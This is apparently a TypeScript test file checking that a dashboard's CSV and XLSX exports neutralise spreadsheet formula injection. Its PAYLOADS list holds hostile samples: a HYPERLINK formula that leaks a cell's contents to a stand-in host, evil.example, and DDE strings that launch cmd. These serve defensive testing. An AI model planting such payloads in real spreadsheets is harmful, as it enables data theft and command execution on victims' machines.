/**
 * Spreadsheet formula injection (issue 8.3): every CSV the dashboard writes goes through
 * `toCsv`, every XLSX text cell through `safeCellValue` (src/lib/spreadsheet.ts). Whatever the
 * text (random, hostile), what a spreadsheet reads back never starts with = + - @ (or tab,
 * carriage return, or their full-width forms) unless it is a number we wrote.
 * The served files themselves are scanned end to end by tests/e2e/formula-injection.test.ts.
 */
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { Rng } from '../../scripts/demo-data';
import { xlsxValue } from '../../src/lib/server/report/xlsx';
import { looksLikeFormula, neutralizeFormula, safeCellValue, toCsv, type Cell } from '../../src/lib/spreadsheet';


const PAYLOADS = [
	'=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
	'=cmd|\' /C calc\'!A0',
	'+SUM(1,2)',
	'-2+3+cmd|\' /C calc\'!A0',
	'@SUM(1+1)*cmd|\' /C calc\'!A0',
	'\t=1+1',
	'\r=1+1',
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(A1)',
	'=',
	'-',
	'+',
	'@'
];
const PIECES = [...PAYLOADS, 'Nuageo SAS', 'L’équipe "Nuage"', 'a;b', 'a,b', ' lead', 'trail ', 'ligne\nsuivante', '', '125 000,50 €', "'=déjà"];

function randomText(rng: Rng): string {
	const n = 1 + Math.floor(rng.next() * 3);
	let s = '';
	for (let i = 0; i < n; i++) s += rng.pick(PIECES);
	return s;
}

const FORMULA = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

describe('neutralizeFormula, safeCellValue', () => {
	it('prefix every formula start with an apostrophe, and leave other text alone', () => {
		for (const p of PAYLOADS) {
			expect(looksLikeFormula(p)).toBe(true);
			expect(neutralizeFormula(p)).toBe(`'${p}`);
			expect(safeCellValue(p)).toBe(`'${p}`);
		}
		for (const ok of ['Nuageo', ' =1', '1-2', 'a=b', "'=déjà", '']) {
			expect(looksLikeFormula(ok)).toBe(false);
			expect(neutralizeFormula(ok)).toBe(ok);
		}
		expect(safeCellValue(-5)).toBe(-5);
		expect(safeCellValue(null)).toBe(null);
		const day = new Date('2026-04-15T00:00:00Z');
		expect(safeCellValue(day)).toBe(day);
		expect(xlsxValue({ type: 'text', value: '=1+1' } as never).value).toBe("'=1+1");
	});
});

describe('toCsv: what a spreadsheet reads back', () => {
	it('never starts a text cell with a formula character (5 000 random rows, both delimiters)', () => {
		const rng = new Rng(8);
		for (let i = 0; i < 5000; i++) {
			const delimiter = rng.pick([',', ';'] as const);
			const row: Cell[] = [randomText(rng), rng.pick([-12.5, 3, 0, null, true]), randomText(rng), randomText(rng)];
			const csv = toCsv([row], { delimiter, bom: rng.next() < 0.5, decimalComma: delimiter === ';' });
			const parsed = Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { delimiter, header: false, skipEmptyLines: true }).data[0]!;
			expect(parsed).toHaveLength(row.length);
			row.forEach((cell, c) => {
				const back = parsed[c]!;
				if (typeof cell === 'string') {
					expect(back).toBe(looksLikeFormula(cell) ? `'${cell}` : cell);
					expect(FORMULA.test(back)).toBe(false);
				} else if (typeof cell === 'number') {
					// Our own numbers: a minus sign is a number, not a formula.
					expect(back).toMatch(/^-?\d+([.,]\d+)?$/);
				}
			});
		}
	});
});

describe('XLSX through safeCellValue', () => {
	it('reads back with no formula cell and no text starting with a formula character', async () => {
		const rng = new Rng(9);
		const wb = new ExcelJS.Workbook();
		const ws = wb.addWorksheet('x');
		const written: string[] = [];
		for (let r = 1; r <= 300; r++) {
			const text = randomText(rng);
			written.push(text);
			ws.getCell(r, 1).value = safeCellValue(text);
			ws.getCell(r, 2).value = safeCellValue(-r);
		}
		const back = new ExcelJS.Workbook();
		await back.xlsx.load((await wb.xlsx.writeBuffer()) as ArrayBuffer);
		const sheet = back.getWorksheet('x')!;
		for (let r = 1; r <= 300; r++) {
			const cell = sheet.getCell(r, 1);
			expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
			const value = cell.value === null ? '' : String(cell.value);
			expect(FORMULA.test(value)).toBe(false);
			// (XML turns a carriage return inside text into a line feed.)
			const expected = looksLikeFormula(written[r - 1]!) ? `'${written[r - 1]}` : written[r - 1]!;
			expect(value).toBe(expected.replace(/\r\n?/g, '\n'));
			expect(sheet.getCell(r, 2).value).toBe(-r);
		}
	});
});
